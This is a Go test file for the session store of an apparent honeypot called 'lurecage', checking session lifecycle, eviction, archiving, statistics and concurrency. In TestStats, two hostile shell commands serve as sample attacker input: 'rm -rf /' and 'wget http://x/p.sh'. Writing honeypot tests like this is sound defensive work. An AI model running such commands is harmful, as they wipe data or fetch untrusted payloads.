package store

import (
	"context"
	"errors"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"

	"lurecage/internal/schema"
)

type captureSink struct {
	mu     sync.Mutex
	events []schema.Event
}

func (c *captureSink) Publish(ev schema.Event) {
	c.mu.Lock()
	c.events = append(c.events, ev)
	c.mu.Unlock()
}

func (c *captureSink) snapshot() []schema.Event {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]schema.Event, len(c.events))
	copy(out, c.events)
	return out
}

func testExchange(command string, score float64, level schema.ThreatLevel) schema.Exchange {
	return schema.Exchange{
		Command:   command,
		Response:  "ok",
		Timestamp: time.Now().UTC(),
		Score:     score,
		Level:     level,
	}
}

func TestSessionLifecycle(t *testing.T) {
	sink := &captureSink{}
	s := New(DefaultConfig(), sink, nil)

	sess := s.CreateSession("203.0.113.9:51234")
	if sess.ID == uuid.Nil {
		t.Fatal("CreateSession returned nil ID")
	}
	if sess.Closed() {
		t.Error("new session already closed")
	}

	if err := s.AppendExchange(sess.ID, testExchange("ls", 0.2, schema.ThreatLow)); err != nil {
		t.Fatalf("AppendExchange() error = %v", err)
	}

	if err := s.CloseSession(sess.ID); err != nil {
		t.Fatalf("CloseSession() error = %v", err)
	}
	// Closing again is a no-op.
	if err := s.CloseSession(sess.ID); err != nil {
		t.Errorf("second CloseSession() error = %v", err)
	}

	got, err := s.GetSession(sess.ID)
	if err != nil {
		t.Fatalf("GetSession() error = %v", err)
	}
	if !got.Closed() {
		t.Error("session not closed after CloseSession")
	}
	if len(got.Exchanges) != 1 {
		t.Errorf("exchanges = %d, want 1", len(got.Exchanges))
	}

	events := sink.snapshot()
	wantKinds := []schema.EventKind{
		schema.EventSessionOpened,
		schema.EventExchangeAppended,
		schema.EventSessionClosed,
	}
	if len(events) != len(wantKinds) {
		t.Fatalf("published %d events, want %d", len(events), len(wantKinds))
	}
	for i, kind := range wantKinds {
		if events[i].Kind != kind {
			t.Errorf("event[%d].Kind = %s, want %s", i, events[i].Kind, kind)
		}
	}
}

func TestAppendAfterClose(t *testing.T) {
	s := New(DefaultConfig(), nil, nil)

	sess := s.CreateSession("203.0.113.9:51234")
	if err := s.CloseSession(sess.ID); err != nil {
		t.Fatalf("CloseSession() error = %v", err)
	}

	err := s.AppendExchange(sess.ID, testExchange("ls", 0.1, schema.ThreatLow))
	if !errors.Is(err, ErrSessionClosed) {
		t.Errorf("AppendExchange() error = %v, want ErrSessionClosed", err)
	}
}

func TestUnknownSession(t *testing.T) {
	s := New(DefaultConfig(), nil, nil)

	id := uuid.New()
	if _, err := s.GetSession(id); !errors.Is(err, ErrSessionNotFound) {
		t.Errorf("GetSession() error = %v, want ErrSessionNotFound", err)
	}
	if err := s.AppendExchange(id, testExchange("ls", 0, schema.ThreatLow)); !errors.Is(err, ErrSessionNotFound) {
		t.Errorf("AppendExchange() error = %v, want ErrSessionNotFound", err)
	}
	if err := s.CloseSession(id); !errors.Is(err, ErrSessionNotFound) {
		t.Errorf("CloseSession() error = %v, want ErrSessionNotFound", err)
	}
}

func TestEvictionOldestClosed(t *testing.T) {
	s := New(Config{MaxSessions: 2}, nil, nil)

	first := s.CreateSession("203.0.113.1:1")
	second := s.CreateSession("203.0.113.2:2")
	if err := s.CloseSession(first.ID); err != nil {
		t.Fatalf("CloseSession() error = %v", err)
	}

	third := s.CreateSession("203.0.113.3:3")

	if _, err := s.GetSession(first.ID); !errors.Is(err, ErrSessionNotFound) {
		t.Errorf("oldest closed session still present, err = %v", err)
	}
	for _, id := range []uuid.UUID{second.ID, third.ID} {
		if _, err := s.GetSession(id); err != nil {
			t.Errorf("GetSession(%s) error = %v", id, err)
		}
	}
	if got := s.Stats().Evicted; got != 1 {
		t.Errorf("Evicted = %d, want 1", got)
	}
}

func TestEvictionSkipsActive(t *testing.T) {
	s := New(Config{MaxSessions: 1}, nil, nil)

	active := s.CreateSession("203.0.113.1:1")
	s.CreateSession("203.0.113.2:2")

	// The only retained session is still active, so the bound is
	// exceeded instead of evicting it.
	if _, err := s.GetSession(active.ID); err != nil {
		t.Errorf("active session evicted: %v", err)
	}
	if got := len(s.ListSessions()); got != 2 {
		t.Errorf("sessions = %d, want 2", got)
	}
}

func TestEvictionArchives(t *testing.T) {
	archived := make(chan uuid.UUID, 1)
	s := New(Config{MaxSessions: 1}, nil, archiverFunc(func(sess *schema.Session) error {
		archived <- sess.ID
		return nil
	}))

	first := s.CreateSession("203.0.113.1:1")
	if err := s.CloseSession(first.ID); err != nil {
		t.Fatalf("CloseSession() error = %v", err)
	}
	s.CreateSession("203.0.113.2:2")

	select {
	case id := <-archived:
		if id != first.ID {
			t.Errorf("archived session %s, want %s", id, first.ID)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("evicted session never archived")
	}
}

type archiverFunc func(*schema.Session) error

func (f archiverFunc) Archive(_ context.Context, sess *schema.Session) error {
	return f(sess)
}

func TestStats(t *testing.T) {
	s := New(DefaultConfig(), nil, nil)

	a := s.CreateSession("203.0.113.1:1")
	b := s.CreateSession("203.0.113.2:2")

	exchanges := []schema.Exchange{
		testExchange("ls", 0.2, schema.ThreatLow),
		testExchange("rm -rf /", 0.9, schema.ThreatCritical),
		testExchange("wget http://x/p.sh", 0.7, schema.ThreatHigh),
	}
	for i, ex := range exchanges {
		target := a.ID
		if i%2 == 1 {
			target = b.ID
		}
		if err := s.AppendExchange(target, ex); err != nil {
			t.Fatalf("AppendExchange() error = %v", err)
		}
	}
	if err := s.CloseSession(b.ID); err != nil {
		t.Fatalf("CloseSession() error = %v", err)
	}

	st := s.Stats()
	if st.TotalSessions != 2 {
		t.Errorf("TotalSessions = %d, want 2", st.TotalSessions)
	}
	if st.ActiveSessions != 1 {
		t.Errorf("ActiveSessions = %d, want 1", st.ActiveSessions)
	}
	if st.TotalExchanges != 3 {
		t.Errorf("TotalExchanges = %d, want 3", st.TotalExchanges)
	}
	if st.LevelCounts[schema.ThreatCritical] != 1 || st.LevelCounts[schema.ThreatHigh] != 1 || st.LevelCounts[schema.ThreatLow] != 1 {
		t.Errorf("LevelCounts = %v", st.LevelCounts)
	}
	wantMean := (0.2 + 0.9 + 0.7) / 3
	if diff := st.MeanScore - wantMean; diff > 1e-9 || diff < -1e-9 {
		t.Errorf("MeanScore = %v, want %v", st.MeanScore, wantMean)
	}
	if st.LastActivity.IsZero() {
		t.Error("LastActivity is zero")
	}
}

func TestTrainingVectors(t *testing.T) {
	s := New(DefaultConfig(), nil, nil)
	sess := s.CreateSession("203.0.113.1:1")

	cutoff := time.Now().UTC()

	old := testExchange("ls", 0.1, schema.ThreatLow)
	old.Timestamp = cutoff.Add(-time.Hour)
	old.Features[0] = 1
	recent := testExchange("whoami", 0.1, schema.ThreatLow)
	recent.Timestamp = cutoff.Add(time.Minute)
	recent.Features[0] = 2

	for _, ex := range []schema.Exchange{old, recent} {
		if err := s.AppendExchange(sess.ID, ex); err != nil {
			t.Fatalf("AppendExchange() error = %v", err)
		}
	}

	all := s.TrainingVectors(time.Time{})
	if len(all) != 2 {
		t.Errorf("TrainingVectors(zero) = %d vectors, want 2", len(all))
	}
	windowed := s.TrainingVectors(cutoff)
	if len(windowed) != 1 || windowed[0][0] != 2 {
		t.Errorf("TrainingVectors(cutoff) = %v, want only the recent vector", windowed)
	}
}

func TestCloneIsolation(t *testing.T) {
	s := New(DefaultConfig(), nil, nil)
	sess := s.CreateSession("203.0.113.1:1")

	if err := s.AppendExchange(sess.ID, testExchange("ls", 0.1, schema.ThreatLow)); err != nil {
		t.Fatalf("AppendExchange() error = %v", err)
	}

	snap, err := s.GetSession(sess.ID)
	if err != nil {
		t.Fatalf("GetSession() error = %v", err)
	}
	snap.Exchanges[0].Command = "mutated"
	snap.Exchanges = append(snap.Exchanges, testExchange("extra", 0, schema.ThreatLow))

	fresh, err := s.GetSession(sess.ID)
	if err != nil {
		t.Fatalf("GetSession() error = %v", err)
	}
	if len(fresh.Exchanges) != 1 || fresh.Exchanges[0].Command != "ls" {
		t.Error("snapshot mutation leaked into the store")
	}
}

func TestConcurrentSessions(t *testing.T) {
	s := New(DefaultConfig(), &captureSink{}, nil)

	const sessions = 16
	const perSession = 50

	var wg sync.WaitGroup
	for i := 0; i < sessions; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			sess := s.CreateSession("203.0.113.7:400")
			for j := 0; j < perSession; j++ {
				if err := s.AppendExchange(sess.ID, testExchange("uptime", 0.3, schema.ThreatLow)); err != nil {
					t.Errorf("AppendExchange() error = %v", err)
					return
				}
			}
			if err := s.CloseSession(sess.ID); err != nil {
				t.Errorf("CloseSession() error = %v", err)
			}
		}()
	}
	wg.Wait()

	st := s.Stats()
	if st.TotalExchanges != sessions*perSession {
		t.Errorf("TotalExchanges = %d, want %d", st.TotalExchanges, sessions*perSession)
	}
	if st.ActiveSessions != 0 {
		t.Errorf("ActiveSessions = %d, want 0", st.ActiveSessions)
	}
	for _, sess := range s.ListSessions() {
		if len(sess.Exchanges) != perSession {
			t.Errorf("session %s has %d exchanges, want %d", sess.ID, len(sess.Exchanges), perSession)
		}
	}
}
